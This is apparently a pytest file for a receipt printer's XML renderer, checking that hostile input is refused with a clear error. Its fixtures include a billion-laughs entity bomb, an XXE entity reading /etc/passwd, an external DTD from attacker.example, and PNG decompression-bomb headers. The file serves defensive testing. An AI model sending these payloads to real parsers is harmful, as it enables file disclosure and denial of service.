"""Hostile or broken input must give UnprintableInput with a clear message (the printer
service logs it with the printer's name: tests/printer/test_service.py)."""

from __future__ import annotations

import base64
import struct
import zlib

import pytest

from posboxless.printer.escpos import render_xml_receipt
from posboxless.printer.escpos.errors import UnprintableInput
from posboxless.printer.profiles import get_profile

T20 = get_profile("TM-T20III")

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<receipt>&lol4;</receipt>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE receipt [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<receipt>&secret;</receipt>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE receipt SYSTEM "http://attacker.example/evil.dtd">
<receipt>x</receipt>"""


def png_header_only(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        return struct.pack(">I", len(body)) + kind + body + crc

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 100))
        + chunk(b"IEND", b"")
    )


def img(payload: bytes | str, mime: str = "image/png") -> str:
    text = payload if isinstance(payload, str) else base64.b64encode(payload).decode()
    return f"<receipt><img src='data:{mime};base64,{text}'/></receipt>"


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        ("", "empty"),
        ("   ", "empty"),
        ("<receipt><div>unclosed</receipt>", "malformed at line 1"),
        ("<receipt>\n<div a='1' a='2'/></receipt>", "malformed at line 2"),
        ("just text", "malformed"),
        ("<receipt>&nbsp;</receipt>", "malformed"),
        ("<receipt>\x1b@</receipt>", "malformed"),
        (BILLION_LAUGHS, "DOCTYPE"),
        (EXTERNAL_ENTITY, "DOCTYPE"),
        (EXTERNAL_DTD, "DOCTYPE"),
        ("<receipt>" + "<div>" * 200 + "x" + "</div>" * 200 + "</receipt>", "nested"),
        ("<receipt>" + "x" * (9 * 1024 * 1024) + "</receipt>", "too large"),
        (img(png_header_only(100_000, 100_000)), "too large"),
        (img(png_header_only(8000, 6000)), "too large"),
        (img("%%%not-base64%%%"), "not valid base64"),
        (img(b"GIF89a but not really"), "a GIF file; only JPEG and PNG images are accepted"),
        (img(b"plain text"), "not an image"),
        (img(""), "empty"),
    ],
    ids=[
        "empty",
        "blank",
        "unclosed",
        "duplicate-attribute",
        "text",
        "undefined-entity",
        "control-char",
        "billion-laughs",
        "external-entity",
        "external-dtd",
        "deep-nesting",
        "huge",
        "bomb-header",
        "over-limit",
        "bad-base64",
        "fake-gif",
        "not-image",
        "no-data",
    ],
)
def test_hostile_xml_is_refused_clearly(xml: str, message: str) -> None:
    with pytest.raises(UnprintableInput) as info:
        render_xml_receipt(xml, T20)
    assert message in str(info.value)
    assert "Traceback" not in str(info.value)


def test_non_string_input() -> None:
    with pytest.raises(UnprintableInput, match="XML text"):
        render_xml_receipt(b"<receipt/>", T20)  # type: ignore[arg-type]


def test_bomb_limit_applies_to_every_image() -> None:
    ok = img(png_header_only(100, 100))
    # A valid header with garbage data: refused as damaged, never as a crash.
    with pytest.raises(UnprintableInput, match="damaged"):
        render_xml_receipt(ok, T20)
